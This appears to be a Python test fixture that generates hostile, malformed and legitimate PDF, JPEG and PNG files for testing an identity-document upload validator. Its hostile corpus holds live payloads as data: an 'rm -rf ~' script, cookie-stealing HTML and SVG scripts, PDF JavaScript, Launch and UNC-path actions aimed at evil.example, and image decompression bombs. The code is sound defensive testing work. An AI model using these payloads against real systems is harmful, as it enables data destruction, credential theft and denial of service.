"""Hostile, broken and valid upload files, generated at test time.

No binary file is committed: every file is built here, by hand or with
pypdf and Pillow, so a reader can see exactly what each one contains.

    hostile_corpus(max_bytes)  files an upload must refuse, each with the
                               RejectedFile.code it must get
    tolerated_corpus()         unusual but legitimate files that must pass
    valid_pdf(), valid_jpeg(), valid_png()
    write_corpus(directory)    the hostile files on disk, for tests that
                               upload real files
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass
from functools import cache
from pathlib import Path

from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

# The limit the corpus assumes when a test does not pass its own.
CORPUS_MAX_BYTES = 1024 * 1024


@dataclass(frozen=True)
class HostileFile:
    name: str  # readable test id
    filename: str  # what the browser would send as the file's name
    declared_type: str  # what the browser would send as Content-Type
    content: bytes
    expected_error: str  # RejectedFile.code


@dataclass(frozen=True)
class ToleratedFile:
    name: str
    filename: str
    declared_type: str
    content: bytes
    expected_mime: str


# --------------------------------------------------------------------------
# Valid files


@cache
def valid_jpeg() -> bytes:
    """A 160×100 JPEG with a drawing and some noise, as a phone photo has."""
    return _save(_picture(), "JPEG", quality=85)


@cache
def valid_png() -> bytes:
    return _save(_picture(), "PNG")


def _picture(size: tuple[int, int] = (160, 100)) -> Image.Image:
    rng = random.Random(1)
    image = Image.frombytes("RGB", size, bytes(rng.randrange(256) for _ in range(size[0] * size[1] * 3)))
    draw = ImageDraw.Draw(image)
    draw.rectangle((10, 10, 70, 90), fill=(200, 180, 150))
    draw.text((80, 40), "ID 1234", fill=(0, 0, 0))
    return image


def _save(image: Image.Image, fmt: str, **options) -> bytes:
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _page_objects(catalog_extra: bytes = b"", page_extra: bytes = b"", content: bytes | None = None) -> list[bytes]:
    """Objects 1–5 of a one-page PDF; extra objects may follow as 6, 7…"""
    if content is None:
        content = b"BT /F1 18 Tf 72 720 Td (Carte nationale d'identite) Tj ET"
    return [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
        _stream(content),
        _FONT,
    ]


def _stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def build_pdf(objects: list[bytes], *, root: int = 1, unlisted: bytes = b"") -> bytes:
    """A PDF with a classic cross-reference table; objects are numbered from 1.

    `unlisted` goes between the last object and the table, where no
    cross-reference entry points.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += unlisted
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def build_pdf_with_object_stream(compressed: list[bytes], content: bytes) -> bytes:
    """A PDF 1.5 whose objects 1..n sit Flate-compressed in an object stream,
    so none of their names can be seen in the file's raw bytes.

    Object n+1 is a page content stream (streams cannot be compressed
    that way), n+2 the object stream, n+3 the cross-reference stream.
    """
    count = len(compressed)
    content_number, objstm_number, xref_number = count + 1, count + 2, count + 3
    header, bodies = bytearray(), bytearray()
    for number, body in enumerate(compressed, start=1):
        header += b"%d %d " % (number, len(bodies))
        bodies += body + b"\n"
    packed = zlib.compress(bytes(header) + bytes(bodies))

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    content_offset = len(out)
    out += b"%d 0 obj\n" % content_number + _stream(content) + b"\nendobj\n"
    objstm_offset = len(out)
    out += (
        b"%d 0 obj\n" % objstm_number
        + _stream(packed, b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (count, len(header)))
        + b"\nendobj\n"
    )
    xref_offset = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 2, objstm_number, index) for index in range(count)]
    rows += [struct.pack(">BIH", 1, content_offset, 0), struct.pack(">BIH", 1, objstm_offset, 0)]
    rows += [struct.pack(">BIH", 1, xref_offset, 0)]
    table = zlib.compress(b"".join(rows))
    out += (
        b"%d 0 obj\n" % xref_number
        + _stream(table, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode " % (xref_number + 1))
        + b"\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


@cache
def valid_pdf() -> bytes:
    """A one-page PDF with a line of text, checked by pypdf in strict mode."""
    return build_pdf(_page_objects())


def _with_pypdf(edit) -> bytes:
    """valid_pdf() rewritten by pypdf after `edit(writer)` changed it."""
    writer = PdfWriter(clone_from=io.BytesIO(valid_pdf()))
    edit(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --------------------------------------------------------------------------
# Pieces of hostile files


def _zip(files: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/'
            b'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            "word/document.xml": b'<?xml version="1.0"?><w:document/>',
        }
    )


def _elf() -> bytes:
    # ELF64 header of an x86-64 executable; the rest does not matter to libmagic.
    header = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1)
    return header + b"\x00" * 200


def _pe() -> bytes:
    # DOS stub pointing at a PE header, as every Windows .exe starts.
    stub = bytearray(b"MZ" + b"\x00" * 0x7E)
    stub[0x3C:0x40] = struct.pack("<I", 0x80)
    return bytes(stub) + b"PE\x00\x00" + struct.pack("<HH", 0x8664, 1) + b"\x00" * 200


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_bomb() -> bytes:
    # 20000 × 20000 declared (400 megapixels, 1.2 GB decoded) in a few hundred bytes.
    ihdr = struct.pack(">IIBBBBB", 20000, 20000, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + 20000 * 3) * 4, 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", rows) + _png_chunk(b"IEND", b"")


def _png_bad_crc() -> bytes:
    data = bytearray(valid_png())
    idat = data.index(b"IDAT")
    data[idat + 10] ^= 0xFF  # a byte of the image data; its chunk CRC no longer matches
    return bytes(data)


def _png_bad_pixel_data() -> bytes:
    # Every chunk well formed, CRCs right, but the pixel data is not zlib:
    # only decoding finds it.
    png = valid_png()
    idat = png.index(b"IDAT")
    length = struct.unpack(">I", png[idat - 4 : idat])[0]
    garbage = (bytes(range(256)) * (length // 256 + 1))[:length]
    return png[: idat - 4] + _png_chunk(b"IDAT", garbage) + png[idat + 4 + length + 4 :]


def _jpeg_without_quantization_table() -> bytes:
    # Well-formed markers, but a table the frame needs is missing: only
    # decoding finds it.
    jpeg = valid_jpeg()
    dqt = jpeg.index(b"\xff\xdb")
    length = struct.unpack(">H", jpeg[dqt + 2 : dqt + 4])[0]
    return jpeg[:dqt] + jpeg[dqt + 2 + length :]


def _jpeg_with_dimensions(width: int, height: int) -> bytes:
    data = bytearray(valid_jpeg())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _jpeg_scan_bomb() -> bytes:
    # A progressive JPEG whose last scan is repeated 150 times.
    data = _save(_picture(), "JPEG", quality=85, progressive=True)
    last_scan = data.rindex(b"\xff\xda")
    end = data.rindex(b"\xff\xd9")
    return data[:end] + data[last_scan:end] * 150 + data[end:]


def _pdf_with(catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (), page_extra: bytes = b"") -> bytes:
    return build_pdf(_page_objects(catalog_extra, page_extra) + list(extra_objects))


def _pdf_with_link(action: bytes) -> bytes:
    """A page with one clickable link annotation running `action` (object 7)."""
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A 7 0 R >>"
    return _pdf_with(page_extra=b"/Annots [6 0 R] ", extra_objects=(annotation, action))


def _encrypted_pdf(user_password: str, algorithm: str) -> bytes:
    return _with_pypdf(lambda w: w.encrypt(user_password=user_password, owner_password="owner", algorithm=algorithm))


def _pdf_with_attachment() -> bytes:
    return _with_pypdf(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00 payload"))


def _pdf_with_document_javascript(action: bytes) -> bytes:
    # Document-level scripts live in the catalog's /Names tree and run on opening.
    return _pdf_with(b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >> ", (action,))


def _pdf_with_xfa() -> bytes:
    def add_xfa(writer: PdfWriter) -> None:
        form = DictionaryObject(
            {
                NameObject("/Fields"): ArrayObject(),
                NameObject("/XFA"): TextStringObject("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"),
            }
        )
        writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)

    return _with_pypdf(add_xfa)


def _pdf_with_objects_in_stream(action: bytes) -> bytes:
    # The catalog's /OpenAction (object 6) is hidden in a compressed object stream.
    content = b"BT /F1 18 Tf 72 720 Td (Passeport) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 7 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"null",
        _FONT,
        action,
    ]
    return build_pdf_with_object_stream(objects, content)


def _pdf_with_zip_inside() -> bytes:
    # A whole ZIP (local headers, central directory, end record) inside a
    # stream no page uses: viewers ignore it, unzip finds it.
    archive = _zip({"payload.js": b"WScript.Echo('hi')"}, zipfile.ZIP_STORED)
    return _pdf_with(extra_objects=(_stream(archive),))


def _html_pdf_polyglot() -> bytes:
    return b"<html><script>alert(document.cookie)</script>" + valid_pdf()


def _pdf_truncated() -> bytes:
    pdf = valid_pdf()
    return pdf[: len(pdf) // 2]


def _pdf_broken_xref() -> bytes:
    # Complete (it ends with %%EOF) but startxref points into the middle of an object.
    pdf = valid_pdf()
    head, _, tail = pdf.rpartition(b"startxref\n")
    return head + b"startxref\n" + b"%d\n%%%%EOF\n" % 30


def huge_page_pdf(width: float = 14_400, height: float = 14_400, *, pages: int = 10, user_unit: float | None = None) -> bytes:
    """The PDF of issue 12: about 1.5 KB, ``pages`` pages of ``width`` × ``height`` pt sharing one content stream.

    14,400 pt (200 inches) is the largest page PDF 1.7 allows without /UserUnit; drawn at 110 dpi it is
    22,000 × 22,000 pixels, 1.45 GB in 3-byte pixels.
    """
    unit = b"/UserUnit %g " % user_unit if user_unit else b""
    first_page = 4
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
        _stream(b"BT /F1 400 Tf 100 100 Td (Carte nationale d'identite) Tj ET"),
    ]
    font = first_page + pages
    for _ in range(pages):
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 %g %g] /Contents 3 0 R "
                       b"/Resources << /Font << /F1 %d 0 R >> >> %s>>" % (width, height, font, unit))
    objects.append(_FONT)
    return build_pdf(objects)


def _pdf_without_pages() -> bytes:
    return build_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


# --------------------------------------------------------------------------
# The corpora


def _as_pdf(name: str, content: bytes, code: str, filename: str = "cni.pdf") -> HostileFile:
    return HostileFile(name, filename, "application/pdf", content, code)


def _as_jpeg(name: str, content: bytes, code: str) -> HostileFile:
    return HostileFile(name, "photo.jpg", "image/jpeg", content, code)


def _as_png(name: str, content: bytes, code: str) -> HostileFile:
    return HostileFile(name, "photo.png", "image/png", content, code)


def hostile_corpus(max_bytes: int = CORPUS_MAX_BYTES) -> list[HostileFile]:
    """Every kind of file an upload must refuse, with the code it must get.

    `max_bytes` is the limit the upload under test enforces; the oversized
    file is one byte over it.
    """
    pdf, png, jpeg = valid_pdf(), valid_png(), valid_jpeg()
    js_action = b"<< /Type /Action /S /JavaScript /JS (app.launchURL('https://evil.example/');) >>"
    docx_type = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    return [
        # Size
        _as_pdf("empty", b"", "empty"),
        _as_pdf("oversized", pdf + b" " * (max_bytes + 1 - len(pdf)), "too_large"),
        _as_pdf("pdf_without_pages", _pdf_without_pages(), "empty"),
        # Pages no identity document has (issue 12): the PDF maximum, and A4 made 50 times larger by /UserUnit
        _as_pdf("pdf_pages_14400pt", huge_page_pdf(), "page_too_large"),
        _as_pdf("pdf_a4_user_unit_50", huge_page_pdf(595, 842, pages=1, user_unit=50), "page_too_large"),
        # Not an accepted type, whatever the name says
        _as_pdf("elf_named_pdf", _elf(), "type_not_accepted", "passeport.pdf"),
        _as_pdf("pe_exe_named_pdf", _pe(), "type_not_accepted", "passeport.pdf"),
        _as_pdf("shell_script_named_pdf", b"#!/bin/sh\nrm -rf ~\n", "type_not_accepted"),
        _as_pdf("postscript_named_pdf", b"%!PS-Adobe-3.0\nshowpage\n", "type_not_accepted"),
        _as_pdf("plain_text_named_pdf", b"Jean Dupont, ne le 1er mars 1980\n", "type_not_accepted"),
        _as_pdf("zip_named_pdf", _zip({"cni.pdf": pdf}), "type_not_accepted", "documents.pdf"),
        _as_png(
            "html_named_png",
            b"<!DOCTYPE html><html><body><script>fetch('/steal?c='+document.cookie)</script></body></html>",
            "type_not_accepted",
        ),
        _as_png(
            "svg_script_named_png",
            b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
            "type_not_accepted",
        ),
        _as_jpeg(
            "svg_onload_named_jpg",
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
            "type_not_accepted",
        ),
        HostileFile("docx", "attestation.docx", docx_type, _docx(), "type_not_accepted"),
        HostileFile("gif", "photo.gif", "image/gif", _save(_picture(), "GIF"), "type_not_accepted"),
        HostileFile("webp", "photo.webp", "image/webp", _save(_picture(), "WEBP"), "type_not_accepted"),
        HostileFile("tiff", "scan.tiff", "image/tiff", _save(_picture(), "TIFF"), "type_not_accepted"),
        # PDF: structure
        _as_pdf("pdf_html_prefix", _html_pdf_polyglot(), "mismatch"),
        _as_pdf("pdf_truncated", _pdf_truncated(), "truncated"),
        _as_pdf("pdf_broken_xref", _pdf_broken_xref(), "corrupt"),
        _as_pdf("pdf_user_password_rc4", _encrypted_pdf("1234", "RC4-128"), "encrypted"),
        _as_pdf("pdf_user_password_aes256", _encrypted_pdf("1234", "AES-256"), "encrypted"),
        # PDF: active content
        _as_pdf("pdf_document_javascript", _pdf_with_document_javascript(js_action), "active_content"),
        _as_pdf("pdf_openaction_javascript", _pdf_with(b"/OpenAction 6 0 R ", (js_action,)), "active_content"),
        _as_pdf(
            "pdf_openaction_escaped_name",  # /J#53 is /JS, /J#61vaScript is /JavaScript
            _pdf_with(b"/OpenAction 6 0 R ", (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",)),
            "active_content",
        ),
        _as_pdf("pdf_javascript_in_object_stream", _pdf_with_objects_in_stream(js_action), "active_content"),
        _as_pdf(
            "pdf_javascript_outside_xref",  # found by a viewer that rebuilds a damaged table
            build_pdf(_page_objects(), unlisted=b"6 0 obj\n" + js_action + b"\nendobj\n"),
            "active_content",
        ),
        _as_pdf("pdf_orphan_javascript", _pdf_with(extra_objects=(js_action,)), "active_content"),
        _as_pdf(
            "pdf_launch",
            _pdf_with(b"/OpenAction 6 0 R ", (b"<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",)),
            "active_content",
        ),
        _as_pdf(
            "pdf_page_open_uri",  # navigates as soon as the page is shown
            _pdf_with(
                page_extra=b"/AA << /O 6 0 R >> ",
                extra_objects=(b"<< /S /URI /URI (https://evil.example/) >>",),
            ),
            "active_content",
        ),
        _as_pdf(
            "pdf_link_to_unc_path",  # clicking sends Windows credentials to the server
            _pdf_with_link(b"<< /S /URI /URI (file://evil.example/share/x) >>"),
            "active_content",
        ),
        _as_pdf("pdf_link_named_menu_item", _pdf_with_link(b"<< /S /Named /N /SaveAs >>"), "active_content"),
        _as_pdf(
            "pdf_link_submit_form",
            _pdf_with_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>"),
            "active_content",
        ),
        _as_pdf("pdf_embedded_file", _pdf_with_attachment(), "active_content"),
        _as_pdf("pdf_acroform_xfa", _pdf_with_xfa(), "active_content", "formulaire.pdf"),
        # PDF: hidden archives
        _as_pdf("pdf_zip_appended", pdf + _zip({"run.js": b"x"}), "polyglot"),
        _as_pdf("pdf_zip_inside_stream", _pdf_with_zip_inside(), "polyglot"),
        _as_pdf("pdf_7z_appended", pdf + b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24, "polyglot"),
        # JPEG
        _as_jpeg("jpeg_truncated", jpeg[: len(jpeg) * 2 // 3], "truncated"),
        _as_jpeg("jpeg_missing_table", _jpeg_without_quantization_table(), "corrupt"),
        _as_jpeg("jpeg_bomb_65000x65000", _jpeg_with_dimensions(65000, 65000), "too_many_pixels"),
        _as_jpeg("jpeg_scan_bomb", _jpeg_scan_bomb(), "too_complex"),
        _as_jpeg("jpeg_zip_appended", jpeg + _zip({"a.txt": b"hidden"}), "polyglot"),
        # PNG
        _as_png("png_bad_crc", _png_bad_crc(), "corrupt"),
        _as_png("png_bad_pixel_data", _png_bad_pixel_data(), "corrupt"),
        _as_png("png_truncated", png[: len(png) // 2], "truncated"),
        _as_png("png_bomb_20000x20000", _png_bomb(), "too_many_pixels"),
        _as_png("png_html_after_iend", png + b"<html><script>alert(1)</script></html>", "trailing_data"),
        _as_png("png_zip_appended", png + _zip({"a.txt": b"hidden"}), "polyglot"),
    ]


def tolerated_corpus() -> list[ToleratedFile]:
    """Unusual but legitimate files: refusing them would be a false alarm."""
    pdf, png, jpeg = valid_pdf(), valid_png(), valid_jpeg()
    # Bytes a ZIP signature begins with, in a stream, but no ZIP record after them.
    chance_signature = _stream(b"x\x9c" + b"PK\x03\x04" + bytes(range(256)) + b"PK\x05\x06" + b"\xff" * 30)
    motion_photo = jpeg + b"\x00\x00\x00\x18ftypmp42" + bytes(range(256)) * 4  # a video after the picture
    two_pictures = _save(_picture(), "MPO", save_all=True, append_images=[_picture((80, 50))])

    def as_pdf(name: str, content: bytes) -> ToleratedFile:
        return ToleratedFile(name, "acte.pdf", "application/pdf", content, "application/pdf")

    def as_image(name: str, content: bytes, mime: str) -> ToleratedFile:
        return ToleratedFile(name, "photo" + {"image/jpeg": ".jpg", "image/png": ".png"}[mime], mime, content, mime)

    return [
        ToleratedFile("png_named_pdf", "photo.pdf", "application/pdf", png, "image/png"),
        ToleratedFile("jpeg_declared_html", "cni", "text/html", jpeg, "image/jpeg"),
        ToleratedFile("pdf_named_jpg", "scan.jpg", "image/jpeg", pdf, "application/pdf"),
        as_pdf("pdf_owner_password_only", _encrypted_pdf("", "AES-128")),
        as_pdf("pdf_open_at_page", _pdf_with(b"/OpenAction [3 0 R /Fit] ")),
        as_pdf("pdf_open_goto", _pdf_with(b"/OpenAction 6 0 R ", (b"<< /S /GoTo /D [3 0 R /Fit] >>",))),
        as_pdf("pdf_web_link", _pdf_with_link(b"<< /S /URI /URI (https://www.service-public.fr/) >>")),
        as_pdf("pdf_objects_in_stream", _pdf_with_objects_in_stream(b"<< /S /GoTo /D [3 0 R /Fit] >>")),
        as_pdf("pdf_chance_zip_signature", _pdf_with(extra_objects=(chance_signature,))),
        as_image("jpeg_progressive", _save(_picture(), "JPEG", progressive=True), "image/jpeg"),
        as_image("jpeg_cmyk", _save(_picture().convert("CMYK"), "JPEG"), "image/jpeg"),
        as_image("jpeg_two_pictures_mpo", two_pictures, "image/jpeg"),
        as_image("jpeg_data_after_end", motion_photo, "image/jpeg"),
        as_image("png_palette", _save(_picture().convert("P"), "PNG"), "image/png"),
        as_image("png_grey_16bit", _save(_picture().convert("I;16"), "PNG"), "image/png"),
    ]


def write_corpus(directory: str | Path, max_bytes: int = CORPUS_MAX_BYTES) -> list[tuple[HostileFile, Path]]:
    """Write each hostile file to directory/<name>/<filename>, for tests that upload from disk."""
    written = []
    for hostile in hostile_corpus(max_bytes):
        path = Path(directory) / hostile.name / hostile.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(hostile.content)
        written.append((hostile, path))
    return written
